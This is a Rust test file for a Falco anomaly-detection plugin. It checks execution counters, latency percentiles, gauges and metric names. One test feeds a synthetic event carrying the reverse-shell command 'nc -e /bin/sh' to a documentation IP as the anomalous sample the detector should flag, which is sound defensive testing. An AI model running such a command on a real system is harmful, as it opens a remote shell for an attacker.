//! What Falco's metrics tell.

use crate::support::{Host, config, exec};

#[test]
fn what_happens_is_counted() {
    let directory = tempfile::tempdir().expect("a directory");
    let mut host = Host::new(&config(directory.path(), 20));
    for pid in 100..140 {
        host.event(exec(pid, 1, "/usr/sbin/nginx -g daemon").event());
    }
    host.event(exec(200, 1, "/usr/bin/nc -e /bin/sh 203.0.113.7 4444").event());
    for (name, value) in [
        ("falco_executions", 41),
        ("judged_from_event", 41),
        ("executions_falco", 41),
        ("executions_seed", 1),
        ("novel", 1),
        ("held", 1),
        ("panics", 0),
        ("missing_threads", 0),
        ("lost_ring_buffer", 0),
        ("lost_unjoined", 0),
        ("unscored_while_loading", 0),
    ] {
        assert_eq!(host.metric(name), value, "{name}");
    }
    assert!(host.metric("scored") >= 1 && host.metric("learned") >= 1);
    let [median, most] = ["parse_nanoseconds_p50", "parse_nanoseconds_p99"].map(|name| host.metric(name));
    assert!(0 < median && median <= most, "{median} {most}");
    // Fields are timed one in many.
    let event = host.event(exec(201, 1, "/usr/sbin/nginx -g daemon").event());
    for _ in 0..200 {
        host.field(&event, "anomaly.score");
    }
    assert!(host.metric("extract_nanoseconds_p99") > 0);
}

#[test]
fn gauges_follow_on_the_feeds_thread() {
    let directory = tempfile::tempdir().expect("a directory");
    let mut host = Host::new(&config(directory.path(), 1_000));
    for pid in 100..140 {
        host.event(exec(pid, 1, &format!("/usr/bin/tool --{}", "x".repeat(pid as usize - 99))).event());
    }
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while host.metric("rows") < 30 {
        assert!(std::time::Instant::now() < deadline, "rows stay at {}", host.metric("rows"));
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    assert_eq!(host.metric("workloads"), 1);
    assert_eq!(host.metric("learning_workloads"), 1);
    assert!(host.metric("memory_byte_count") >= 30_000);
}

/// What libs 0.25 takes out of a name wherever it stands, before it puts a unit of its own to the end.
const TAKEN_OUT: &[&str] =
    &["_kb", "_bytes", "_mb", "_perc", "_percentage", "_ratio", "_ns", "_ts", "_sec", "_total"];

#[test]
fn falco_takes_nothing_out_of_a_name() {
    let directory = tempfile::tempdir().expect("a directory");
    let names = Host::new(&config(directory.path(), 20)).metrics();
    assert!(names.len() > 40, "{names:?}");
    for name in names {
        assert!(!TAKEN_OUT.iter().any(|unit| name.contains(unit)), "{name}");
    }
}
